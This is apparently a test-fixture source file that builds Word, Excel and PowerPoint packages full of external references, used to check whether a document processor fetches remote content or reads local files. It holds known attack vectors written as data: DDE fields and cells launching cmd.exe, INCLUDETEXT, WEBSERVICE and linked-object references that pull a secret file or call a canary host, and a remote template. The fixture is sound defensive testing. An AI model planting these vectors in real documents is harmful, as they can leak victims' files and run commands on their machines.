import {
  makeOpenXml,
  makeWorkbook,
  relation,
  relations,
  wordBody,
} from "#tests/samples/office/office-packages.ts";
import type { Canary } from "../canary.ts";

/** Office Open XML files with external references. */

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

const linkedImage = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const field = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** Linked images, a template, altChunks, linked objects and fields. */
export function wordDocument({ url, secretFile }: Canary): Buffer {
  const file = `file://${secretFile}`;
  const object = `<w:p><w:r><w:object><v:shape id="o"><v:imagedata r:id="i1"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document" ShapeID="o" r:id="o1" UpdateMode="Always"/></w:object></w:r></w:p>`;
  const fields = [
    `INCLUDETEXT "${file}"`,
    `INCLUDETEXT "${url}/x.txt"`,
    `INCLUDEPICTURE "${url}/x.png" \\d`,
    `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"`,
    `LINK Word.Document.8 "${secretFile}" "" \\a`,
  ];
  const template = relations(relation("t1", "attachedTemplate", `${url}/t.dotm`));
  const settings = `<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="t1"/><w:updateFields w:val="true"/></w:settings>`;
  return makeOpenXml("docx", [
    {
      name: "word/document.xml",
      content: wordBody(
        `${paragraph("still")}${linkedImage("i1")}${linkedImage("i2")}<w:altChunk r:id="c1"/><w:altChunk r:id="c2"/>${object}${fields.map(field).join("")}`,
      ),
    },
    {
      name: "word/_rels/document.xml.rels",
      content: relations(
        relation("s", "settings", "settings.xml", false),
        relation("i1", "image", `${url}/a.png`),
        relation("i2", "image", file),
        relation("c1", "aFChunk", `${url}/chunk.html`),
        relation("c2", "aFChunk", file),
        relation("o1", "oleObject", file),
      ),
    },
    { name: "word/settings.xml", content: settings },
    { name: "word/_rels/settings.xml.rels", content: template },
  ]);
}

/** WEBSERVICE, DDE, another workbook, a linked image. */
export function workbook({ url, secretFile }: Canary): Buffer {
  const cell = (at: string, formula: string) =>
    `<c r="${at}" t="str"><f>${formula}</f><v>old</v></c>`;
  const rows = [
    `<c r="A1" t="inlineStr"><is><t>still</t></is></c>`,
    cell("A2", `WEBSERVICE("${url}/a")`),
    cell("A3", `_xlfn.WEBSERVICE("file://${secretFile}")`),
    cell("A4", `cmd|'/c calc'!A0`),
    cell("A5", "[1]S!A1"),
    cell("A6", `HYPERLINK("${url}/h","x")`),
    cell("A7", `IMAGE("${url}/i.png")`),
  ].map((content, index) => `<row r="${index + 1}">${content}</row>`);
  const link = `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="b1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>`;
  return makeWorkbook(
    `<sheetData>${rows.join("")}</sheetData>`,
    [
      { name: "xl/externalLinks/externalLink1.xml", content: link },
      {
        name: "xl/externalLinks/_rels/externalLink1.xml.rels",
        content: relations(relation("b1", "externalLinkPath", `${url}/book.xlsx`)),
      },
    ],
    `<externalReferences><externalReference r:id="x1"/></externalReferences><calcPr fullCalcOnLoad="1"/>`,
  );
}

/** Linked images and audio. */
export function slides({ url, secretFile }: Canary): Buffer {
  const ns = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`;
  const frame = `<a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/>`;
  const image = (id: string) =>
    `<p:pic><p:nvPicPr><p:cNvPr id="3" name="p"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="${id}"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="${id}"/></p:blipFill><p:spPr>${frame}</p:spPr></p:pic>`;
  const text = `<p:sp><p:nvSpPr><p:cNvPr id="2" name="t"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr>${frame}</p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:t>still</a:t></a:r></a:p></p:txBody></p:sp>`;
  const tree = `<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>`;
  return makeOpenXml("pptx", [
    {
      name: "ppt/presentation.xml",
      content: `<?xml version="1.0"?><p:presentation ${ns}><p:sldIdLst><p:sldId id="256" r:id="s1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>`,
    },
    {
      name: "ppt/_rels/presentation.xml.rels",
      content: relations(relation("s1", "slide", "slides/slide1.xml", false)),
    },
    {
      name: "ppt/slides/slide1.xml",
      content: `<?xml version="1.0"?><p:sld ${ns}><p:cSld><p:spTree>${tree}${text}${image("i1")}${image("i2")}</p:spTree></p:cSld></p:sld>`,
    },
    {
      name: "ppt/slides/_rels/slide1.xml.rels",
      content: relations(
        relation("i1", "image", `${url}/a.png`),
        relation("i2", "image", `file://${secretFile}`),
      ),
    },
  ]);
}
